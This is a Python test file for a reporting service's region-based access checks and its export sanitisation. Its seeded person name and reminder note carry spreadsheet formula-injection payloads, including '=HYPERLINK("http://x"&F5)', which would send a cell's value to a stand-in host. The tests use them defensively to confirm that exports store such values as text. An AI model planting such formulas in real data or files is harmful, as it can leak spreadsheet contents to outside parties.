"""With tokens on: an omitted region means the caller's own on every reporting route, a region
outside the caller's answers 403 forbidden_region, exports neutralise formula prefixes, and a
reminder reason is recorded under the caller's identity."""

from __future__ import annotations

import csv
import io
import random
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from devtools.testing.apps import running_app
from devtools.testing.infra import TestInfra
from devtools.testing.tokens import auth_enabled
from services.reporting.app import create_app
from services.reporting.projections.handlers import router
from services.reporting.tests import factories as f
from shared.db import make_sessionmaker

FORMULA = '=HYPERLINK("x")'


async def seed(engine: AsyncEngine, county: str, year: int, name: str = "张*三") -> list[str]:
    """Two people in the county's first village: one paid on time, one still owing."""
    village = f"{county}001001"
    paid, owing = f.new_id(), f.new_id()
    events = [f.target(f"{county}001000", year, 4)]
    for pid in (paid, owing):
        events += [f.person(pid, village=village, name=name),
                   f.enrollment(pid, year, village=village),
                   f.determination(pid, year, village=village,
                                   subsidies=[("county_finance", "age_60_69", 10000)])]
    events += [f.payment(paid, year, village=village, amount_fen=30000, timing="on_time"),
               f.payment(paid, year, village=village, amount_fen=10000, payer="government",
                         funding_source="county_finance", order_no=f"PB-{paid[:12]}")]
    async with make_sessionmaker(engine)() as session, session.begin():
        for ev in events:
            await router(session, ev)
    return [paid, owing]


@pytest.fixture
async def two_counties(infra: TestInfra, reporting_engine: AsyncEngine, tmp_path: Path
                       ) -> AsyncIterator[dict[str, Any]]:
    year = random.randint(2040, 2099)
    a = f.new_county()
    b = f.new_county()
    while b[:4] == a[:4]:
        b = f.new_county()
    people = {a: await seed(reporting_engine, a, year, FORMULA),
              b: await seed(reporting_engine, b, year)}
    with auth_enabled(tmp_path) as bearer:
        app = create_app(infra.settings(consumers_enabled=False, relay_enabled=False))
        async with running_app(app) as client:
            yield {"client": client, "bearer": bearer, "year": year, "a": a, "b": b,
                   "people": people}


def officer(ctx: dict[str, Any], county: str, role: str = "medical_insurance_officer"
            ) -> dict[str, str]:
    return ctx["bearer"](sub=f"{role}@{county}", role=role, region=county)


async def test_omitted_region_is_the_callers_own_on_every_route(two_counties) -> None:  # noqa: ANN001
    ctx = two_counties
    client: httpx.AsyncClient = ctx["client"]
    year = ctx["year"]
    for mine, theirs in ((ctx["a"], ctx["b"]), (ctx["b"], ctx["a"])):
        me = officer(ctx, mine)
        progress = (await client.get("/v1/progress", params={"plan_year": year},
                                     headers=me)).json()
        assert progress["region_code"] == mine
        assert [r["code"] for r in progress["rows"]] == [f"{mine}001000"]
        assert (progress["totals"]["registered"], progress["totals"]["paid"]) == (2, 1)

        page = await client.get("/dashboard", headers=me)  # no region, no plan year
        assert page.status_code == 200
        assert f"{mine}001000" in page.text and f"{theirs}001000" not in page.text

        fund = (await client.get("/v1/fund-summary", params={"plan_year": year},
                                 headers=me)).json()
        assert [r["county_code"] for r in fund["rows"]] == [mine]

        pub = (await client.get("/v1/publicity-lists", params={"plan_year": year},
                                headers=me)).json()
        assert {r["person_id"] for r in pub["rows"]} == {ctx["people"][mine][0]}

        rem = (await client.get("/v1/reminders", params={"plan_year": year},
                                headers=me)).json()
        assert {r["person_id"] for r in rem["rows"]} == {ctx["people"][mine][1]}

        apps = (await client.get("/v1/funding-applications",
                                 params={"plan_year": year, "include_persons": "true"},
                                 headers=me)).json()
        assert {p["person_id"] for p in apps["persons"]} == set(ctx["people"][mine])

        for path, params in (("/v1/progress", {"county_code": theirs}),
                             ("/v1/fund-summary", {"county_code": theirs}),
                             ("/v1/publicity-lists", {"village_code": f"{theirs}001001"}),
                             ("/v1/reminders", {"township_code": f"{theirs}001000"}),
                             ("/v1/funding-applications", {"county_code": theirs}),
                             ("/dashboard", {"county_code": theirs})):
            r = await client.get(path, params={"plan_year": year, **params}, headers=me)
            assert r.status_code == 403, (path, r.text)
            assert r.json()["error"]["code"] == "forbidden_region"


async def test_nationwide_callers_name_a_region_for_name_lists(two_counties) -> None:  # noqa: ANN001
    ctx = two_counties
    admin = ctx["bearer"](sub="admin", role="administrator", region="000000")
    r = await ctx["client"].get("/v1/publicity-lists", params={"plan_year": ctx["year"]},
                                headers=admin)
    assert r.status_code == 422 and r.json()["error"]["code"] == "region_required"
    counties = (await ctx["client"].get("/v1/fund-summary", params={"plan_year": ctx["year"]},
                                        headers=admin)).json()
    assert {ctx["a"], ctx["b"]} <= {row["county_code"] for row in counties["rows"]}


async def test_township_staff_default_to_their_township(two_counties) -> None:  # noqa: ANN001
    ctx = two_counties
    client: httpx.AsyncClient = ctx["client"]
    a = ctx["a"]
    staff = ctx["bearer"](sub="clerk", role="township_staff", region=f"{a}001000")
    progress = (await client.get("/v1/progress", params={"plan_year": ctx["year"]},
                                 headers=staff)).json()
    assert (progress["rank"], progress["level"]) == ("township", "village")
    assert [r["code"] for r in progress["rows"]] == [f"{a}001001"]
    wider = await client.get("/v1/progress", params={"plan_year": ctx["year"],
                                                     "county_code": a}, headers=staff)
    assert wider.status_code == 403


async def test_exports_write_formula_prefixes_as_text(two_counties) -> None:  # noqa: ANN001
    ctx = two_counties
    client: httpx.AsyncClient = ctx["client"]
    a, year = ctx["a"], ctx["year"]
    staff = ctx["bearer"](sub="clerk", role="township_staff", region=f"{a}001000")
    owing = ctx["people"][a][1]
    saved = await client.post(f"/v1/reminders/{owing}/{year}/reason", headers=staff,
                              json={"reason": "other", "note": "=HYPERLINK(\"http://x\"&F5)",
                                    "recorded_by": "someone-else"})
    assert saved.status_code == 200, saved.text
    assert saved.json()["recorded_by"] == "clerk"  # the caller, never what the body claims

    xlsx = await client.get("/v1/publicity-lists", headers=staff,
                            params={"plan_year": year, "format": "xlsx"})
    cells = [c for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows()
             for c in row if c.value is not None]
    names = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(c.data_type == "s" and c.value == "'" + FORMULA for c in names)
    # the only formulas are the 合计 row's own sums
    formulas = [c for c in cells if c.data_type == "f"]
    assert all(re.fullmatch(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)", c.value) for c in formulas)

    text = (await client.get("/v1/reminders", headers=staff,
                             params={"plan_year": year, "format": "csv"})).content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    values = [v for row in rows for v in row if "HYPERLINK" in v]
    assert values and all(v.startswith("'=") for v in values)
    assert "'" + FORMULA in values and "'=HYPERLINK(\"http://x\"&F5)" in values
